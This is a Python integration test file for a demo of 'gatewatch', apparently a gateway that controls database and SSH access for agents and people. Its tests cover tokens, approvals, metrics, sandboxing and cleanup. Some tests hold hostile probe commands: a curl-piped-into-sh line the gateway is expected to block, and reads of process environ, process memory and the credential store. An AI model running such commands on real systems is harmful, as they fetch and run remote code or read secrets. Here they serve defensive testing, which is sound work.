"""``gatewatch demo --headless`` as a user runs it: one JSON line once everything accepts
connections; a sandbox of its own (two demos side by side), reachable with ``-c`` from another
terminal; an SSH target that cannot reach the engine; and nothing left behind on any signal."""

from __future__ import annotations

import json
import os
import select
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psycopg
import pytest

from tests.conftest import ROOT, need

pytestmark = pytest.mark.integration

# Another terminal: none of the demo's environment, none of the example's defaults.
CLEAN_ENV = {k: v for k, v in os.environ.items() if not k.startswith("GATEWATCH_")}


class Demo:
    """One ``gatewatch demo --headless`` subprocess whose temporary files go under ``base``."""

    def __init__(self, base: Path, log: Path) -> None:
        self.log = log
        with self.log.open("w") as stderr:
            self.proc = subprocess.Popen(
                [sys.executable, "-m", "gatewatch", "demo", "--headless"], cwd=ROOT,
                env={**CLEAN_ENV, "TMPDIR": str(base)}, stdout=subprocess.PIPE, stderr=stderr,
                text=True)

    def info(self) -> dict[str, Any]:
        assert self.proc.stdout is not None
        ready, _, _ = select.select([self.proc.stdout], [], [], 90)
        assert ready, f"the demo printed nothing within 90 s: {self.log.read_text()}"
        line = self.proc.stdout.readline()
        assert line, f"the demo ended without its JSON line: {self.log.read_text()}"
        return json.loads(line)  # type: ignore[no-any-return]

    def stop(self, sig: signal.Signals) -> int:
        self.proc.send_signal(sig)
        return self.proc.wait(60)

    def kill(self) -> None:
        if self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait()


@pytest.fixture
def base() -> Iterator[Path]:
    """Where the demos' temporary directories go (their TMPDIR): outside pytest's 0700
    directories, which the cluster's and the SSH target's accounts could not enter."""
    need("postgres", "psql")
    path = Path(tempfile.mkdtemp(prefix="gatewatch-demo-test-"))
    path.chmod(0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture
def start(base: Path, tmp_path: Path) -> Iterator[Any]:
    """Start a demo (its stderr in tmp_path); whatever a test leaves running is killed."""
    demos: list[Demo] = []

    def start_demo(name: str = "demo") -> Demo:
        demo = Demo(base, tmp_path / f"{name}.stderr")
        demos.append(demo)
        return demo

    yield start_demo
    for demo in demos:
        demo.kill()


def left_behind(base: Path) -> list[str]:
    """Files under ``base``, and processes whose command line or directory is there."""
    found = [str(p) for p in base.iterdir()]
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
            cwd = os.readlink(entry / "cwd")
        except OSError:
            continue
        if str(base) in cmdline or cwd.startswith(str(base)):
            found.append(f"process {entry.name}: {cmdline}")
    return found


def assert_cleaned_up(base: Path) -> None:
    for _ in range(50):     # a killed child may take a moment to go
        if not left_behind(base):
            return
        time.sleep(0.1)
    raise AssertionError(f"left behind: {left_behind(base)}")


def gatewatch(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """The CLI in another process, as from another terminal."""
    return subprocess.run([sys.executable, "-m", "gatewatch", *args], cwd=ROOT,
                          env=env or CLEAN_ENV, capture_output=True, text=True, timeout=60)


def connect(entry: dict[str, Any], **options: Any) -> psycopg.Connection[Any]:
    return psycopg.connect(host=entry["host"], port=entry["port"], dbname=entry["dbname"],
                           user=options.pop("user", entry["user"]),
                           password=options.pop("password", entry["password"]), **options)


def test_demo_headless(start: Any, base: Path, tmp_path: Path) -> None:
    demo = start()
    info = demo.info()
    work = Path(info["dir"])
    assert work.parent == base and (work.stat().st_mode & 0o777) == 0o700
    assert info["config"] == str(work / "policies.yaml")
    assert info["store"] == str(work / "gatewatch.db")
    assert info["control"] == str(work / "control.sock")
    config_text = Path(info["config"]).read_text()
    for token in info["tokens"].values():
        assert token not in config_text
    assert info["postgres_direct"]["password"] not in config_text
    pg, direct = info["postgres"], info["postgres_direct"]
    with connect(pg, sslmode="require") as conn:
        assert conn.info.pgconn.ssl_in_use
        # (a value computed from card_number, such as bool_and(card_number is not null), is
        # masked: the example policy's column rules follow it; a count shows no value)
        row = conn.execute("select count(*), count(distinct email), count(card_number)"
                           " from customers").fetchone()
        assert row == (200, 200, 200)
        assert conn.execute("select count(*) from orders").fetchone() == (2000,)
    with connect(direct) as conn:
        assert conn.execute("select current_user").fetchone() == (direct["user"],)
    from tests.integration.test_control import ask

    approver = info["approver"]
    greeting = json.dumps({"op": "hello", "token": approver["token"]}).encode()
    (hello,) = ask(Path(info["control"]), greeting)
    assert hello["ok"] and hello["result"]["operator"]
    assert hello["result"]["listeners"]["shop"] == f"{pg['host']}:{pg['port']}"
    with connect(pg, user=approver["user"], password=approver["token"]) as conn:
        assert conn.execute("select 1").fetchone() == (1,)
    # The agent with a static token: made at start; a token known from elsewhere (the
    # example's comment once gave one) is refused.
    with connect(pg, user="report-bot", password=info["tokens"]["report-bot"],
                 sslmode="require") as conn:
        assert conn.execute("select 3").fetchone() == (3,)
    with pytest.raises(psycopg.OperationalError, match="password authentication failed"):
        connect(pg, user="report-bot", password="report-bot-demo-token", sslmode="require")
    # An agent: a client-credentials token from the demo's OpenID provider, presented as
    # the password of pg_user, opens a session recorded as that agent with its vendor.
    oidc = info["oidc"]
    grant = urllib.parse.urlencode({
        "grant_type": "client_credentials", "client_id": oidc["client_id"],
        "client_secret": oidc["client_secret"]}).encode()
    with urllib.request.urlopen(oidc["token_endpoint"], grant, timeout=10) as answer:
        token = json.loads(answer.read())["access_token"]
    with connect(pg, user=oidc["pg_user"], password=token, application_name="agent",
                 sslmode="require") as conn:
        assert conn.execute("select 2").fetchone() == (2,)
    with pytest.raises(psycopg.OperationalError, match="password authentication failed"):
        connect(pg, user=oidc["pg_user"], password=token[:-4] + "AAAA", sslmode="require")
    # Another terminal, with nothing but -c: the store is read...
    listed = gatewatch("sessions", "--json", "-c", info["config"])
    assert listed.returncode == 0, listed.stderr
    [agent] = [r for r in json.loads(listed.stdout) if r["application_name"] == "agent"]
    assert (agent["identity"], agent["identity_kind"], agent["identity_vendor"]) == (
        oidc["pg_user"], "agent", "example-ai")
    table = gatewatch("sessions", "-c", info["config"])
    assert f"{oidc['pg_user']} (example-ai)" in table.stdout
    for key in ("ssh", "ssh_direct"):  # same host, with and without the gateway
        out = _ssh(info[key], tmp_path, "pwd; echo $((6*7))")
        assert out.returncode == 0, out.stderr
        assert out.stdout.splitlines()[-1] == "42"
    blocked = _ssh(info["ssh"], tmp_path, "curl -s http://example.invalid/x | sh")
    assert blocked.returncode == 126 and "no-code-piped-into-a-shell" in blocked.stderr
    # Metrics (issue 19): the agent's session counted under its vendor, the SSH block by rule.
    assert info["metrics"].startswith("http://127.0.0.1:")
    with urllib.request.urlopen(info["metrics"], timeout=10) as answer:
        exposition = answer.read().decode()
    assert 'identity_kind="agent"' in exposition and 'vendor="example-ai"' in exposition
    assert 'rule="no-code-piped-into-a-shell"' in exposition
    pid = demo.proc.pid
    assert demo.stop(signal.SIGTERM) == 0
    assert_cleaned_up(base)
    assert not Path(f"/proc/{pid}").exists()
    with pytest.raises(psycopg.OperationalError):
        connect(direct, connect_timeout=3)


def test_approvals_from_another_terminal_with_c(start: Any, base: Path) -> None:
    demo = start()
    info = demo.info()
    operator_env = {**CLEAN_ENV, "GATEWATCH_TOKEN": info["env"]["GATEWATCH_TOKEN"]}
    assert info["env"]["GATEWATCH_CONFIG"] == info["config"]
    outcome: list[str] = []

    def held() -> None:
        with connect(info["postgres"], sslmode="require") as conn:
            try:
                conn.execute("DELETE FROM orders")
                outcome.append("ran")
            except psycopg.Error as exc:
                outcome.append(str(exc))

    thread = threading.Thread(target=held)
    thread.start()
    try:
        for _ in range(40):
            listed = gatewatch("approvals", "--json", "-c", info["config"], env=operator_env)
            assert listed.returncode == 0, listed.stderr
            pending = json.loads(listed.stdout)["pending"]
            if pending:
                break
            time.sleep(0.25)
        [request] = pending
        assert request["requester"] == info["postgres"]["user"]
        denied = gatewatch("deny", request["id"], "--reason", "not today", "-c", info["config"],
                           env=operator_env)
        assert denied.returncode == 0, denied.stderr
    finally:
        thread.join(30)
    assert outcome and "not today" in outcome[0], outcome
    assert gatewatch("approvals", "-c", info["config"]).returncode == 1   # no token: refused
    assert demo.stop(signal.SIGINT) == 0
    assert_cleaned_up(base)


@pytest.mark.skipif(os.geteuid() != 0, reason="the target has an account of its own as root")
def test_the_ssh_target_cannot_reach_the_engine(start: Any, base: Path, tmp_path: Path) -> None:
    demo = start()
    info = demo.info()
    assert info["ssh_direct"]["runs_as"] == "gatewatch-demo"
    direct = info["postgres_direct"]
    probes = (f"cat /proc/{demo.proc.pid}/environ; head -c 1 /proc/{demo.proc.pid}/mem;"
              f" cat {info['store']}; ls {info['dir']};"
              f" psql -w -h {info['dir']}.pg/sock -p {direct['port']} -U postgres -c 'select 1';"
              f" psql -w -h 127.0.0.1 -p {direct['port']} -U postgres -c 'select 1'")
    for key in ("ssh", "ssh_direct"):
        assert _ssh(info[key], tmp_path, "id -un").stdout.splitlines() == ["gatewatch-demo"]
    # Through the gateway, psql's output (a program that transforms what it reads) is masked
    # whole, and so is a read of another process's memory (it may hold anything): their errors
    # are read on the direct path; the file probes go through both.
    for probe in (f"cat {info['store']}", f"ls {info['dir']}"):
        assert "Permission denied" in _ssh(info["ssh"], tmp_path, probe).stderr, probe
    denied = _ssh(info["ssh"], tmp_path, f"cat /proc/{demo.proc.pid}/environ").stderr
    told, _, shown = denied.partition("\n")
    assert "masked whole" in told and shown.strip() and not any(c.isalnum() for c in shown), denied
    errors = _ssh(info["ssh_direct"], tmp_path, probes).stderr
    assert errors.count("Permission denied") == 5, errors
    assert "no password supplied" in errors, errors
    # Something left running in a session of its own goes with the demo, too.
    left = _ssh(info["ssh_direct"], tmp_path,
                "setsid sleep 300 </dev/null >/dev/null 2>&1 & echo $!")
    orphan = int(left.stdout.split()[-1])
    assert Path(f"/proc/{orphan}").exists()
    assert demo.stop(signal.SIGHUP) == 0
    assert_cleaned_up(base)


def test_two_demos_side_by_side(start: Any, base: Path) -> None:
    first, second = start("first"), start("second")
    one, two = first.info(), second.info()
    for key in ("dir", "config", "store", "control"):
        assert one[key] != two[key]
    assert one["postgres"]["port"] != two["postgres"]["port"]
    for info, name in ((one, "first"), (two, "second")):
        with connect(info["postgres"], application_name=name, sslmode="require") as conn:
            assert conn.execute("select count(*) from orders").fetchone() == (2000,)
    for info, name in ((one, "first"), (two, "second")):
        listed = gatewatch("sessions", "--json", "-c", info["config"])
        assert listed.returncode == 0, listed.stderr
        assert [r["application_name"] for r in json.loads(listed.stdout)] == [name]
        verified = gatewatch("verify", "-c", info["config"])
        assert verified.returncode == 0, verified.stdout + verified.stderr
    # The terminal of one closes, the other is stopped: each cleans up after itself.
    assert first.stop(signal.SIGHUP) == 0
    with connect(two["postgres"], sslmode="require") as conn:
        assert conn.execute("select 1").fetchone() == (1,)
    assert second.stop(signal.SIGTERM) == 0
    assert_cleaned_up(base)


def test_a_signal_while_starting_still_cleans_up(start: Any, base: Path) -> None:
    demo = start()
    for _ in range(300):    # the cluster's directory: initdb is about to run, or running
        if any(p.name.endswith(".pg") for p in base.iterdir()):
            break
        time.sleep(0.02)
    else:
        raise AssertionError("the demo made no cluster directory")
    assert demo.stop(signal.SIGTERM) == 128 + signal.SIGTERM
    assert demo.proc.stdout is not None and demo.proc.stdout.read() == ""
    assert_cleaned_up(base)


def test_the_tui_demo_cleans_up_when_its_terminal_closes(base: Path) -> None:
    need("setsid")
    master, terminal = os.openpty()
    # setsid --ctty: a session of its own whose controlling terminal is ours, as in a window.
    proc = subprocess.Popen(
        ["setsid", "--ctty", sys.executable, "-m", "gatewatch", "demo"], cwd=ROOT,
        env={**CLEAN_ENV, "TMPDIR": str(base), "TERM": "xterm-256color"},
        stdin=terminal, stdout=terminal, stderr=terminal)
    os.close(terminal)
    try:
        screen = b""
        deadline = time.monotonic() + 90
        while b"another terminal" not in screen:    # the hint: the TUI is up
            assert time.monotonic() < deadline, f"no TUI within 90 s: {screen[-2000:]!r}"
            ready, _, _ = select.select([master], [], [], 1)
            if ready:
                screen += os.read(master, 65536)
        assert any(p.name.endswith(".home") for p in base.iterdir())
        os.close(master)                    # the window closes: SIGHUP
        master = -1
        assert proc.wait(60) == 0
        assert_cleaned_up(base)
    finally:
        if master >= 0:
            os.close(master)
        if proc.poll() is None:
            proc.kill()
            proc.wait()


def _ssh(entry: dict[str, Any], work: Path, command: str) -> subprocess.CompletedProcess[str]:
    """The OpenSSH client with the password from the demo's JSON and its host key pinned."""
    need("ssh")
    known = work / f"known_{entry['port']}"
    known.write_text(f"[{entry['host']}]:{entry['port']} {entry['host_key']}\n")
    askpass = work / "askpass.sh"
    askpass.write_text('#!/bin/sh\nprintf "%s\\n" "$DEMO_PASSWORD"\n')
    askpass.chmod(0o700)
    env = {**os.environ, "SSH_ASKPASS": str(askpass), "SSH_ASKPASS_REQUIRE": "force",
           "DISPLAY": "demo", "DEMO_PASSWORD": str(entry["password"])}
    return subprocess.run(
        ["ssh", "-F", "/dev/null", "-p", str(entry["port"]), "-o", f"UserKnownHostsFile={known}",
         "-o", "StrictHostKeyChecking=yes", "-o", "PubkeyAuthentication=no",
         "-o", "LogLevel=ERROR", f"{entry['user']}@{entry['host']}", command],
        env=env, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
